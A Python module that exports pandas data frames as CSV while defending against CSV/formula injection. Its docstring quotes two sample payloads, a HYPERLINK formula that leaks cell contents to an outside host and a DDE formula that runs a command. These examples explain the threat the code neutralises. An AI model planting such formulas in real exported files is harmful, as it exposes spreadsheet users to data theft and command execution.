"""Every CSV the app hands out, written so a spreadsheet shows text as text (CSV / formula injection).

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, so an AE term, a site name
or a rationale such as ``=HYPERLINK("http://x?"&A1)`` or ``=cmd|' /C calc'!A0`` would run on the reader's machine.
:func:`safe_csv` follows OWASP's "CSV Injection" advice: every text cell is quoted (RFC 4180: a quote inside it is
doubled), so a separator or line break inside it cannot start a new cell, and a text cell that a spreadsheet could
read as a formula gets a single quote ``'`` in front, which Excel and LibreOffice take as "this is text".

A cell is neutralised when, as text:

- its first character is ``=``, ``+``, ``-``, ``@``, tab, carriage return, line feed or NUL; or
- its first visible character (after spaces, other whitespace and invisible format characters such as a zero-width
  space) is one of ``= + - @`` or a form of one (full-width ``＝``, small ``﹢``…: compared after NFKC); or
- a line inside it starts that way: the quote goes at the start of that line, for readers that split rows at a
  line break even inside quotes.

Numbers are never touched: numeric columns are written as they are (``-1`` dose level, ``-30.5`` % change), and
so is a text cell that is only a number (``"-1"``, ``"-30.5"``, ``"+2"``, ``"-1.5e3"``, ``"-30.5%"``): every
spreadsheet reads it as that number, it cannot call anything, and a quote would turn it into text that no longer
sorts or sums. Column names are text cells too.
"""
from __future__ import annotations

import csv
import numbers
import re
import unicodedata

import pandas as pd

FORMULA_START = frozenset("=+-@")
CONTROL_START = frozenset("\t\r\n\0")  # OWASP (and ASVS 1.2.10 for NUL): dangerous as a cell's first character
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")
LINE_BREAK = re.compile(r"\r\n|\r|\n")
TEXT_MARK = "'"


def _first_visible(text: str) -> str:
    for char in text:
        if not (char.isspace() or unicodedata.category(char) in ("Cc", "Cf")):
            return char
    return ""


def _formula_like(text: str) -> bool:
    """Whether a spreadsheet could take this line for a formula (a plain number is not one)."""
    first = _first_visible(text)
    if not first or PLAIN_NUMBER.fullmatch(text.strip()):
        return False
    return unicodedata.normalize("NFKC", first)[:1] in FORMULA_START


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet should show it: with ``'`` before the cell, and before each line in it, that a
    spreadsheet would otherwise run as a formula."""
    if not text:
        return text
    if text[0].isascii() and text[0].isalnum() and not LINE_BREAK.search(text):
        return text  # the common case, decided without looking further
    lines = LINE_BREAK.split(text)
    breaks = LINE_BREAK.findall(text)
    first = lines[0]
    # A lone line break or control character at the start counts even when what follows is harmless.
    marked = [TEXT_MARK + first if (text[0] in CONTROL_START or _formula_like(first)) else first]
    marked += [TEXT_MARK + line if _formula_like(line) else line for line in lines[1:]]
    return "".join(part for pair in zip(marked, [*breaks, ""]) for part in pair)


def _cell(value):
    """A text column's cell: text neutralised; numbers and missing values as they are; anything else as its text."""
    if isinstance(value, str):
        return neutralise(value)
    if value is None or value is pd.NA or value is pd.NaT or isinstance(value, numbers.Number):
        return value
    return neutralise(str(value))  # e.g. a timedelta, whose text can start with "-"


def _is_text_column(series: pd.Series) -> bool:
    dtype = series.dtype
    return not (pd.api.types.is_numeric_dtype(dtype) or pd.api.types.is_bool_dtype(dtype)
                or pd.api.types.is_datetime64_any_dtype(dtype) or pd.api.types.is_timedelta64_dtype(dtype))


def _header(label):
    if isinstance(label, tuple):
        return tuple(_header(part) for part in label)
    return neutralise(label if isinstance(label, str) else str(label))


def safe_csv(frame: pd.DataFrame) -> bytes:
    """``frame`` as UTF-8 CSV (no index) with every text cell quoted and neutralised; numbers unquoted."""
    out = frame.copy(deep=False)  # copy-on-write: the caller's (possibly shared) frame is never changed
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if _is_text_column(column):
            out.isetitem(position, pd.Series([_cell(v) for v in column.to_numpy(dtype=object)], index=out.index,
                                             dtype=object))
    out.columns = out.columns.map(_header)
    # QUOTE_NONNUMERIC quotes every cell but numbers: a separator (",", or ";" where a spreadsheet expects that)
    # or a line break inside text stays inside its cell.
    return out.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n").encode("utf-8")
